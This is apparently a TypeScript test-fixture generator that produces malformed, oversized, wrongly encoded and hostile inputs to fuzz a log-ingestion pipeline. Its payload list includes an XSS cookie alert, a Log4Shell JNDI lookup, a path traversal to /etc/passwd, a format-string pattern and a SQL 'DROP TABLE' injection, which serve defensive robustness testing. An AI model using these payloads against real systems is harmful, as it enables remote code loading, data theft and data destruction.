/**
 * What attackers, broken cables and broken devices make of each source's lines and events. Every one has to end as a
 * document or among the failures, and to stop nothing. Made of the golden fixtures, the same at each run.
 */
import { type Fixture, readFixtures } from './fixtures.js';

/** A line as it comes off the wire, without its end. */
export interface HostileLine {
  readonly id: string;
  readonly source: string;
  readonly bytes: Buffer;
}

/** An event as a shipper would send it. */
export interface HostileEvent {
  readonly id: string;
  readonly source: string;
  readonly input: Record<string, unknown>;
}

/** Texts that something behind a log has taken for more than text; they fit into JSON as they are. */
const PAYLOADS: readonly string[] = [
  '<script>alert(document.cookie)</script>',
  '${jndi:ldap://192.0.2.66/a}',
  '../../../../etc/passwd',
  '%s%s%n%x%{[@metadata]}%{+yyyy}',
  '${ELKHOUND_LOGSTASH_PASSWORD}',
  "'; DROP TABLE logs; --",
  '\u202egpj.exe\u0007\u001b[2J',
];

/** Bytes that are no UTF-8, or no text. */
const BYTES: Readonly<Record<string, Buffer>> = {
  'a NUL': Buffer.from([0]),
  'Latin-1': Buffer.from([0x4d, 0xfc, 0x6c, 0x6c, 0x65, 0x72]),
  'a cut sequence': Buffer.from([0xe2, 0x82]),
  'an overlong slash': Buffer.from([0xc0, 0xaf]),
  'a surrogate': Buffer.from([0xed, 0xa0, 0x80]),
  'UTF-16': Buffer.from('user', 'utf16le'),
  'a byte order mark': Buffer.from([0xef, 0xbb, 0xbf]),
};
const MEGABYTE = 2 ** 20;
/** Of `recognize.rb`, in characters. */
const MAX_LINE = 8192;

/** For each source's good lines: cut off, spoiled, wrongly encoded; one of each source oversized. */
export function hostileLines(): HostileLine[] {
  const sized = new Set<string>();
  return good().flatMap(({ id, source, input }) => {
    if (typeof input !== 'string') return [];
    const large = sized.has(source) ? {} : oversized(input);
    sized.add(source);
    const forms = { ...cut(input), ...spoiled(input), ...encoded(input), ...large };
    return Object.entries(forms).map(([form, bytes]) => ({ id: `${id}: ${form}`, source, bytes }));
  });
}

/** What a value of an event may be instead. */
const VALUES: readonly unknown[] = [
  ...PAYLOADS,
  -1,
  9e99,
  true,
  [],
  ['a', { b: 1 }],
  { a: { b: 'c' } },
  null,
];

/** For each source's good events: each value in turn hostile, of another type, in the place of an object, or huge. */
export function hostileEvents(): HostileEvent[] {
  return good().flatMap(({ id, source, input }) => {
    if (typeof input === 'string') return [];
    return paths(input).flatMap((path, place) => {
      const values = place % 8 === 0 ? [...VALUES, 'x'.repeat(MEGABYTE)] : VALUES;
      return values.map((value, index) => ({
        id: `${id}: ${path.join('.')}: ${String(index)}`,
        source,
        input: replaced(input, path, value),
      }));
    });
  });
}

/** Two fixtures of each source that end as documents: enough to spoil. */
function good(): Fixture[] {
  const seen = new Map<string, number>();
  return readFixtures().filter(({ source, expected }) => {
    const count = seen.get(source) ?? 0;
    seen.set(source, String(expected._index).startsWith('logs-') ? count + 1 : count);
    return count < 2 && String(expected._index).startsWith('logs-');
  });
}

function cut(line: string): Record<string, Buffer> {
  const parts = [0, 0.05, 0.15, 0.3, 0.5, 0.7, 0.85, 0.95, 0.99];
  return Object.fromEntries(
    parts.map((part) => [
      `cut at ${String(part)}`,
      Buffer.from(line.slice(0, Math.floor(line.length * part))),
    ]),
  );
}

/** Payloads anywhere, and where a device would write what a stranger typed. */
function spoiled(line: string): Record<string, Buffer> {
  const forms = PAYLOADS.flatMap((payload, index) => [
    ...[0.25, 0.5, 0.9].map((part) => {
      const at = Math.floor(line.length * part);
      return [
        `payload ${String(index)} at ${String(part)}`,
        line.slice(0, at) + payload + line.slice(at),
      ] as const;
    }),
    [
      `payload ${String(index)} for a name`,
      line.replace(/\b(?:ann|admin|mallory|invoice\.exe|www)\b/g, () => payload),
    ] as const,
    [
      `payload ${String(index)} for addresses`,
      line.replace(/\b\d+\.\d+\.\d+\.\d+\b/g, () => payload),
    ] as const,
  ]);
  const others = {
    'huge numbers': line.replace(/\d+/g, '99999999999999999999'),
    'negative numbers': line.replace(/(?<=[=:," ])\d+(?=[," ;]|$)/g, '-1'),
    'no separators': line.replace(/[=:,"]/g, ''),
    'quotes never closed': line.replace(/"(?=[^"]*$)/, ''),
    'twice in a line': `${line} ${line}`,
    'its end first': line.slice(line.length / 2) + line.slice(0, line.length / 2),
  };
  return Object.fromEntries(
    [...forms, ...Object.entries(others)].map(([form, text]) => [form, Buffer.from(text)]),
  );
}

function encoded(line: string): Record<string, Buffer> {
  const bytes = Buffer.from(line);
  const at = Math.floor(bytes.length * 0.6);
  return Object.fromEntries(
    Object.entries(BYTES).flatMap(([form, wrong]) => [
      [`${form} inside`, Buffer.concat([bytes.subarray(0, at), wrong, bytes.subarray(at)])],
      [`${form} in front`, Buffer.concat([wrong, bytes])],
    ]),
  );
}

/** What patterns may go through again and again. */
const MANY: readonly string[] = [
  ...Array.from(' ,;:=."(){}[]<>|/-'),
  '\t',
  '\\"',
  '9',
  'a',
  'a ',
  ' k=v',
  '({[',
  ', Aa: ',
  '1.',
];

/** A megabyte behind, a megabyte within, and as much as is still taken apart of what patterns find hard. */
function oversized(line: string): Record<string, Buffer> {
  const middle = Math.floor(line.length / 2);
  const many = MANY.flatMap((text) => {
    const filler = text.repeat(Math.floor((MAX_LINE - line.length) / text.length));
    return [
      [`as much as is read of "${text}" behind`, line + filler],
      [`as much as is read of "${text}" within`, line.slice(0, middle) + filler + line.slice(middle)],
    ] as const;
  });
  const forms = {
    ...Object.fromEntries(many),
    'a megabyte behind': line + 'A="a, '.repeat(MEGABYTE / 6),
    'a megabyte within': line.slice(0, middle) + 'a'.repeat(MEGABYTE) + line.slice(middle),
    '900 KB of JSON': line.replace(/\}$/, `,"x":"${'a, '.repeat(300_000)}"}`),
  };
  return Object.fromEntries(Object.entries(forms).map(([form, text]) => [form, Buffer.from(text)]));
}

/** The way to every value of an event, objects before what they hold; nothing of what Logstash itself keeps. */
function paths(value: unknown, way: readonly string[] = []): string[][] {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return [];
  return Object.entries(value)
    .filter(([name]) => !name.startsWith('@'))
    .flatMap(([name, inner]) => [[...way, name], ...paths(inner, [...way, name])]);
}

function replaced(
  event: Record<string, unknown>,
  [name, ...rest]: readonly string[],
  value: unknown,
): Record<string, unknown> {
  const inner = rest.length === 0 ? value : replaced(event[name!] as Record<string, unknown>, rest, value);
  return { ...event, [name!]: inner };
}
